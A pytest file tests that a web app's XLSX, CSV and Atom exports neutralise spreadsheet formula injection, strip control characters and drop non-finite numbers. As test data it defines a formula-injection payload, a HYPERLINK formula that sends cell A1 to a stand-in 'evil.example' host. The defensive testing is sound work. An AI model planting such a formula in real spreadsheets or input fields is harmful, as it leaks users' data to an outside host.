"""The one writer (dankheo.spreadsheets): every XLSX, CSV and the Atom feed neutralise
formulas, drop characters XML cannot carry and write only finite numbers.

Names are put into the database through the operations (as rows stored before the
input gate existed would be), then every export that shows them is opened."""

from __future__ import annotations

import csv
import io
import math
from datetime import UTC, date, datetime
from decimal import Decimal
from xml.etree import ElementTree as ET

import pytest
from openpyxl import load_workbook

from dankheo.appraisal import closing
from dankheo.domain.enums import Role, UnitTier
from dankheo.spreadsheets import FORMULA_START, Sheet, cell, xlsx_bytes

from .appraisal.scenario import build, submitted, vote_all
from .showcase.conftest import Publisher

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
BELL = "Chuông\x07 báo"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (BELL, "Chuông báo"),
        ("\x07=1+2", "'=1+2"),
        (float("inf"), None),
        (float("nan"), None),
        (Decimal("1.5"), 1.5),
        (-3, -3),
        (datetime(2026, 1, 1, 17, 0, tzinfo=UTC), date(2026, 1, 2)),
    ],
)
def test_cells(app, value, written):
    with app.app_context():
        assert cell(value) == written


def _xlsx_texts(data: bytes) -> list[str]:
    """Every text cell of every sheet; fails if any cell is a formula."""
    wb = load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, float):
                    assert math.isfinite(c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
    return texts


def _assert_safe(texts: list[str], *expected: str) -> None:
    for text in texts:
        assert not text.startswith(FORMULA_START), text
        assert "\x07" not in text, text
    for value in expected:
        assert value in texts, (value, texts)


def _csv_texts(body: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for c in row]


def test_writer_streams_rows_once_and_writes_numbers():
    rows = iter([[1, 2.5, float("inf"), EVIL]])
    ws = load_workbook(io.BytesIO(xlsx_bytes([Sheet("a/b:c", rows)]))).active
    assert ws.title == "a b c"
    assert [c.value for c in ws[1]] == [1, 2.5, None, "'" + EVIL]


def test_council_minutes_neutralise_names(make, db, login_as):
    """Defect: an exemplar named =HYPERLINK(…) was a live formula in the minutes, and a
    name with \\x07 made the minutes XLSX answer 500."""
    sc = build(make, stage1={"quota": 5})
    council = sc.commune_councils[0]
    evil = submitted(make, sc, sc.hamlets[0], name=EVIL)
    bell = submitted(make, sc, sc.hamlets[0], name=BELL)
    for e in (evil, bell):
        vote_all(council, sc, e, "aaa")
    sc.members[council.id][0].user.name = "@Trưởng ban"
    rnd = council.open_round
    closing.close_round(rnd, actor=None)
    db.session.commit()
    client = login_as(sc.chair(council).user)
    resp = client.get(f"/appraisal/rounds/{rnd.id}/minutes.xlsx")
    assert resp.status_code == 200
    _assert_safe(_xlsx_texts(resp.data), "'" + EVIL, "Chuông báo", "'@Trưởng ban")


def test_unit_and_account_exports_neutralise_names(make, db, login_as):
    """Defect: unit names and account positions were live formulas in their exports,
    and a \\x07 made the file answer 500."""
    province = make.unit(tier=UnitTier.PROVINCE, name="Tỉnh Thử", code="T")
    make.unit(parent=province, name=EVIL, code="T-E")
    make.unit(parent=province, name=BELL, code="T-B")
    from dankheo.auth.operations import create_user

    create_user(
        username="vitri",
        name="-Cán bộ",
        password="mat-khau-dai-du",
        unit=province,
        position=EVIL,
    )
    user = make.user(role=Role.SECRETARIAT, unit=province)
    db.session.commit()
    client = login_as(user)
    units = client.get("/admin/exports/units.xlsx")
    assert units.status_code == 200
    _assert_safe(_xlsx_texts(units.data), "'" + EVIL, "Chuông báo")
    users = client.get("/admin/exports/users.xlsx")
    _assert_safe(_xlsx_texts(users.data), "'" + EVIL, "'-Cán bộ")
    template = client.get("/admin/imports/units-template.xlsx")
    _assert_safe(_xlsx_texts(template.data), "Mã đơn vị")


@pytest.fixture
def published(make, db):
    publish = Publisher(make, db)
    publish.setup()
    publish.commune.name = BELL
    publish(name=EVIL, households=5)
    publish("commended", name=f"Đường {BELL}", money_million=12.5)
    db.session.commit()
    return publish


def test_showcase_and_statistics_downloads_neutralise_names(client, published):
    campaign = published.campaign.id
    xlsx = client.get("/showcase/export.xlsx")
    _assert_safe(_xlsx_texts(xlsx.data), "'" + EVIL, "Đường Chuông báo", "Chuông báo")
    body = client.get("/showcase/export.csv").get_data(as_text=True)
    _assert_safe(_csv_texts(body), "'" + EVIL, "Chuông báo", "12.5")
    stats = client.get(f"/stats/export.xlsx?campaign={campaign}")
    _assert_safe(_xlsx_texts(stats.data), "Chuông báo")
    locality = client.get(f"/stats/locality.csv?campaign={campaign}")
    _assert_safe(_csv_texts(locality.get_data(as_text=True)), "Chuông báo")


def test_atom_feed_is_xml_whatever_the_names(client, published):
    """Defect: a name with \\x07 made the Atom feed invalid XML."""
    resp = client.get("/showcase/feed.atom")
    assert resp.mimetype == "application/atom+xml"
    root = ET.fromstring(resp.data)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    titles = {t.text for t in root.findall("a:entry/a:title", ns)}
    assert titles == {EVIL, "Đường Chuông báo"}
    authors = {t.text for t in root.findall("a:entry/a:author/a:name", ns)}
    assert authors == {"Chuông báo"}


def test_the_fast_csv_path_writes_what_cell_by_cell_cleaning_writes(app):
    """csv_chunks cleans common cells in line and strips non-XML characters per
    chunk: the output must equal the careful per-cell path for every kind of cell."""
    import random
    from datetime import UTC, date, datetime
    from decimal import Decimal

    from dankheo.spreadsheets import _csv_cell, csv_chunks, local_tz

    rng = random.Random(7)
    alphabet = ["a", "Đ", "ệ", ",", '"', "\n", "\r", "\t", "=", "+", "-", "@", " "]
    alphabet += ["\x00", "\x01", "\x0b", "\x1f", "\ufffe", "\uffff", "\ue000", "\x7f"]

    def text():
        return "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6)))

    others = [
        None,
        0,
        -5,
        1.5,
        2.0,
        float("inf"),
        float("nan"),
        Decimal("3.25"),
        True,
        date(2026, 1, 2),
        datetime(2026, 1, 2, 17, 30, tzinfo=UTC),
        datetime(2026, 1, 2, 17, 0, tzinfo=UTC),
    ]
    rows = [
        [text() if rng.random() < 0.7 else rng.choice(others) for _ in range(6)]
        for _ in range(3000)
    ]
    with app.app_context():
        tz = local_tz()
        expected = io.StringIO()
        writer = csv.writer(expected)
        expected.write("\ufeff")
        writer.writerow(["Mã", "=A1"])
        for row in rows:
            writer.writerow([_csv_cell(v, tz) for v in row])
        # Header cells go through the same rule.
        assert "".join(csv_chunks(["Mã", "=A1"], rows)) == expected.getvalue().replace(
            "=A1", "'=A1", 1
        )
